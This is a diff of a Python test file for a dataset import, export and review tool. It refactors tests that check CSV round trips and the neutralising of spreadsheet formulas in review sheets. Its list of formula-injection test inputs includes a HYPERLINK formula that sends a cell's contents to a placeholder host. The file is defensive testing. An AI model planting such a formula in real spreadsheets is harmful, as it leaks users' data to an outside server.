@@ -22,8 +22,9 @@ EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM
         "\t=1+1", "\r=1+1", "'=already quoted", "plain"]
 
 
-def _release_with(shared_dir: Path, tmp_path: Path, questions: list[str]) -> tuple[Path, Path]:
-    """The release sample with its first queries replaced (quoted as any CSV writer does)."""
+def _imported(shared_dir: Path, tmp_path: Path, questions: list[str]) -> Path:
+    """The release sample with its first queries replaced (quoted as any CSV writer does),
+    imported as ``tmp_path/ds``."""
     with open(sample_csv(shared_dir), encoding="utf-8", newline="") as handle:
         rows = list(csv.reader(handle))
     for k, question in enumerate(questions, start=1):
@@ -33,60 +34,55 @@ def _release_with(shared_dir: Path, tmp_path: Path, questions: list[str]) -> tup
         csv.writer(handle, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC).writerows(rows)
     images = tmp_path / "coco"
     sample_images(shared_dir, images)
-    return path, images
+    assert main(["import", "cvqa-real", "--csv", str(path), "--images", str(images),
+                 "--out", str(tmp_path / "ds")]) == 0
+    return tmp_path / "ds"
 
 
 def _items(folder: Path) -> list[str]:
     return [i.question for i in load_dataset(folder).items]
 
 
+def _review_keeps_the_texts(ds: Path, sheet: Path, out: Path) -> None:
+    assert main(["review", "import", str(ds), str(sheet), "--out", str(out)]) == 0
+    assert _items(out) == _items(ds)
+
+
 def test_a_lone_carriage_return_survives_export_review_and_reimport(
         shared_dir: Path, tmp_path: Path) -> None:
     question = "How many cats are there\rif one leaves?"
-    release, images = _release_with(shared_dir, tmp_path, [question])
-    assert main(["import", "cvqa-real", "--csv", str(release), "--images", str(images),
-                 "--out", str(tmp_path / "ds")]) == 0
-    assert question in _items(tmp_path / "ds")
-    assert main(["export", str(tmp_path / "ds"), "--format", "cvqa-csv", "--out",
+    ds = _imported(shared_dir, tmp_path, [question])
+    assert question in _items(ds)
+    assert main(["export", str(ds), "--format", "cvqa-csv", "--out",
                  str(tmp_path / "x")]) == 0
     assert f'"{question}"'.encode() in (tmp_path / "x" / "questions.csv").read_bytes()
     assert main(["import", "cvqa-real", "--csv", str(tmp_path / "x" / "questions.csv"),
                  "--images", str(tmp_path / "x" / "images"), "--out",
                  str(tmp_path / "back")]) == 0  # before: "has 2 columns"
-    assert _items(tmp_path / "back") == _items(tmp_path / "ds")
-    assert main(["review", "export", str(tmp_path / "ds"), "--out", str(tmp_path / "s.csv")]) == 0
-    assert main(["review", "import", str(tmp_path / "ds"), str(tmp_path / "s.csv"), "--out",
-                 str(tmp_path / "reviewed")]) == 0
-    assert _items(tmp_path / "reviewed") == _items(tmp_path / "ds")
+    assert _items(tmp_path / "back") == _items(ds)
+    assert main(["review", "export", str(ds), "--out", str(tmp_path / "s.csv")]) == 0
+    _review_keeps_the_texts(ds, tmp_path / "s.csv", tmp_path / "reviewed")
 
 
 def test_review_sheets_carry_no_formulas_and_round_trip(shared_dir: Path, tmp_path: Path) -> None:
-    release, images = _release_with(shared_dir, tmp_path, EVIL)
-    assert main(["import", "cvqa-real", "--csv", str(release), "--images", str(images),
-                 "--out", str(tmp_path / "ds")]) == 0
+    ds = _imported(shared_dir, tmp_path, EVIL)
     sheet = tmp_path / "s.csv"
-    assert main(["review", "export", str(tmp_path / "ds"), "--out", str(sheet)]) == 0
+    assert main(["review", "export", str(ds), "--out", str(sheet)]) == 0
     with open(sheet, encoding="utf-8", newline="") as handle:
         cells = [c for row in csv.reader(handle) for c in row]
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
     assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")" in cells
     assert "''=already quoted" in cells and "plain" in cells
     # importing the sheet as exported gives back exactly the same texts
-    assert main(["review", "import", str(tmp_path / "ds"), str(sheet), "--out",
-                 str(tmp_path / "reviewed")]) == 0
-    assert _items(tmp_path / "reviewed") == _items(tmp_path / "ds")
+    _review_keeps_the_texts(ds, sheet, tmp_path / "reviewed")
     # ... and so does a sheet saved by a spreadsheet, which drops the quote prefix
     (tmp_path / "saved.csv").write_bytes(sheet.read_bytes().replace(b"'=HYPERLINK", b"=HYPERLINK"))
-    assert main(["review", "import", str(tmp_path / "ds"), str(tmp_path / "saved.csv"), "--out",
-                 str(tmp_path / "saved")]) == 0
-    assert _items(tmp_path / "saved") == _items(tmp_path / "ds")
+    _review_keeps_the_texts(ds, tmp_path / "saved.csv", tmp_path / "saved")
 
 
 def test_release_exports_stay_verbatim(shared_dir: Path, tmp_path: Path) -> None:
-    release, images = _release_with(shared_dir, tmp_path, EVIL)
-    assert main(["import", "cvqa-real", "--csv", str(release), "--images", str(images),
-                 "--out", str(tmp_path / "ds")]) == 0
-    assert main(["export", str(tmp_path / "ds"), "--format", "cvqa-csv", "--out",
+    ds = _imported(shared_dir, tmp_path, EVIL)
+    assert main(["export", str(ds), "--format", "cvqa-csv", "--out",
                  str(tmp_path / "x")]) == 0
     with open(tmp_path / "x" / "questions.csv", encoding="utf-8", newline="") as handle:
         queries = [row[1] for row in csv.reader(handle)][1:len(EVIL) + 1]
